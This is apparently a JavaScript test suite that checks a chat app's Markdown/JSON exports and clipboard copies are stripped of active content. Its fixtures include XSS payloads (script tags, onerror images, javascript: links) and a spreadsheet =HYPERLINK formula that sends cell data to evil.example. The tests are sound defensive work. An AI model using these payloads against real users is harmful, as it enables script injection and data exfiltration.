// Answers that leave the page, as an export or by the clipboard: nothing in them runs, loads or computes
// where they are opened.
import assert from 'node:assert/strict';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, test } from 'node:test';
import { api } from './harness/api.mjs';
import { inPage, openBrowser } from './harness/browser.mjs';
import { until } from './harness/conditions.mjs';
import * as see from './harness/page.mjs';
import { root } from './harness/places.mjs';
import { startServer } from './harness/server.mjs';
import { startSim } from './harness/simulator.mjs';

const installed = (name) =>
  import(pathToFileURL(path.join(root, 'web', 'node_modules', name, 'index.js')).href);
const { micromark } = await installed('micromark');
const { gfm, gfmHtml } = await installed('micromark-extension-gfm');

const attack = `See <script>window.hit=1</script> ![pixel](http://evil.example/a.png) [run](javascript:hit) [site](https://example.org/x)\u202e

| kind | value |
| --- | --- |
| call | =HYPERLINK("http://evil.example/?"&A1) |
| at | @SUM(1) |
| minus | -A1 |
| number | -5.2 |
| phone | +49 170 1234567 |

\`\`\`html
<b>code stays</b>
\`\`\``;

let sim;
let server;
before(async () => {
  sim = await startSim();
  server = await startServer({ env: sim.env });
});
after(() => Promise.all([server?.kill(), sim?.kill()]));

/** The tags of Markdown as a program shows it that passes everything on. */
function tagsOf(markdown) {
  const html = micromark(markdown, {
    allowDangerousHtml: true,
    allowDangerousProtocol: true,
    extensions: [gfm()],
    htmlExtensions: [gfmHtml()],
  });
  return [...html.matchAll(/<!?([a-z?-][a-z0-9]*)([^>]*)>/gi)];
}

const own = /^(a|p|h[1-6]|ul|ol|li|pre|code|em|strong|del|blockquote|hr|br|table|thead|tbody|tr|th|td|input|sup|section)$/;

function assertHarmless(markdown, what) {
  for (const [tag, name, attributes] of tagsOf(markdown)) {
    assert.match(name, own, `${what}: ${tag}`);
    assert.doesNotMatch(attributes, /\s(src|style|on\w+)=/i, `${what}: ${tag}`);
    const [, href] = /href="([^"]*)"/.exec(attributes) ?? [];
    if (href !== undefined)
      assert.match(href, /^(https?:|mailto:|#(user-content-)?fn)/i, `${what}: ${tag}`);
  }
}

async function asked(text, conversation_id, message_text = 'Go on?') {
  await sim.script({ text, delay_ms: 0 });
  const started = await api(server).start({ message_text, conversation_id });
  await api(server).turnIs(started.turn_id, 'completed');
  return started;
}

async function exported(id) {
  const { status, body } = await api(server).get(`/api/conversations/${id}/export?format=markdown`);
  assert.equal(status, 200);
  return String(body);
}

/** The same pieces in another order each time, from a seed. */
function* randomTexts(count) {
  const pieces = [
    '<img src=x onerror=y>', '<script>z</script>', '![p](http://e/x)', '[l](javascript:a)',
    '[l]: javascript:a', '[l]', '![l]', '<!--', '-->', '</a>', '`', '``', '```', '~~~', '\\\\', '\\',
    '> ', '- ', '  - ', '1. ', '   ', '    ', '\t', '\n', '\n', '\n\n', '\n```\n', '\n  ```\n', 'word ',
    '*', '[', '](', ']:', '!', '|', '<div>', '&lt;', '| --- |', '\u202e', '\r', '[^1]: ',
  ];
  let seed = 20_261_201;
  const next = (most) => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    return Math.floor((seed / 2_147_483_648) * most);
  };
  for (let i = 0; i < count; i += 1)
    yield `w${Array.from({ length: 4 + next(14) }, () => pieces[next(pieces.length)]).join('')}`;
}

test('an export has no markup, whatever questions and answers say; JSON has all as it is', async () => {
  let id;
  const written = [...randomTexts(40)];
  for (const [at, text] of written.entries()) {
    // Questions, too; some of several lines.
    const question = at % 3 === 0 ? `# ${text}\n<i>` : `<b>${at}</b>`;
    ({ conversation_id: id } = await asked(text, id, question));
  }

  const markdown = await exported(id);

  assertHarmless(markdown, 'export');
  assert.doesNotMatch(markdown, /[\u202a-\u202e\u2066-\u2069]/);
  // Every question is a heading still: no block of code before it swallowed it.
  const headings = tagsOf(markdown).filter(([tag]) => /^<h2/.test(tag)).length;
  assert.ok(headings >= written.length, `${headings} headings`);
  const { turns } = JSON.parse(
    (await api(server).get(`/api/conversations/${id}/export?format=json`)).body,
  );
  assert.deepEqual(
    turns.map((turn) => turn.answer_text),
    written,
  );
});

test('names of files and titles have no markup in an export', async () => {
  const mine = await startServer();
  const name = '<img src=x onerror=y> ![a](http://e) [b](javascript:c).md';
  await api(mine).addDocument(
    name.replaceAll('/', '_'),
    '# <script>orrery</script> [x](javascript:y)\n\nThe orrery stands in the hall of mirrors.\n',
  );
  const { conversation_id: id } = await api(mine).answered('Where does the orrery stand?');

  const { body } = await api(mine).get(`/api/conversations/${id}/export?format=markdown`);

  assert.match(String(body), /Sources:/);
  assertHarmless(String(body), 'export');
  await mine.kill();
});

test('the clipboard of a real browser gets text and HTML that are harmless where they are pasted', async () => {
  const { conversation_id: id } = await asked(attack, undefined, 'Attack me.');
  const browser = await openBrowser();
  await inPage(browser, server, { at: `/c/${id}` }, async (page) => {
    const turn = await see.answered(page);
    const clipboard = () =>
      page.evaluate(async () => {
        const [item] = await navigator.clipboard.read();
        const read = async (type) =>
          item.types.includes(type) ? (await item.getType(type)).text() : '';
        return { text: await read('text/plain'), html: await read('text/html') };
      });
    const put = (what, pattern) =>
      until(what, async () => {
        const now = await clipboard();
        return pattern.test(now.text) && now;
      });
    const cells = /call\t'=HYPERLINK.*\nat\t'@SUM\(1\)\nminus\t'-A1\nnumber\t-5\.2\nphone\t\+49 170 1234567/;

    await turn.getByRole('button', { name: 'Copy the table' }).click();
    const table = await put('the table', /^kind\tvalue/);
    assert.match(table.text, cells);
    assert.match(table.html, /<td[^>]*>'=HYPERLINK/);

    await turn.getByRole('button', { name: 'Copy the answer with its sources' }).click();
    const whole = await put('the answer', /Picture: pixel/);
    assert.match(whole.text, cells);
    for (const { html } of [table, whole]) {
      assert.doesNotMatch(html, /<(script|img|iframe|svg|link|style\b(?!=))|javascript:[^<]*"|src=/i);
      assert.doesNotMatch(html, /[\u202a-\u202e\u2066-\u2069]/);
    }
    assert.match(whole.html, /href="https:\/\/example\.org\/x"/);

    await turn.getByRole('button', { name: 'Copy as Markdown' }).click();
    const markdown = await put('Markdown', /&lt;script>/);
    assertHarmless(markdown.text, 'Markdown');
    assert.match(markdown.text, /```html\n<b>code stays<\/b>\n```/);
    assert.ok((await exported(id)).includes(markdown.text.trim()), 'export and copy differ');
  });
  await browser.close();
});

test('the export and the page make the same of the same answer', async () => {
  const browser = await openBrowser();
  for (const text of randomTexts(5)) {
    const { conversation_id: id } = await asked(text);
    const markdown = await exported(id);
    await inPage(browser, server, { at: `/c/${id}` }, async (page) => {
      const turn = await see.answered(page);
      await turn.getByRole('button', { name: 'Copy as Markdown' }).click();
      await until('the answer as it is exported', async () => {
        const copied = (await page.evaluate(() => navigator.clipboard.readText())).trim();
        if (!/^w/.test(copied)) return false;
        assert.ok(markdown.includes(copied), JSON.stringify({ text, copied, markdown }));
        return true;
      });
    });
  }
  await browser.close();
});
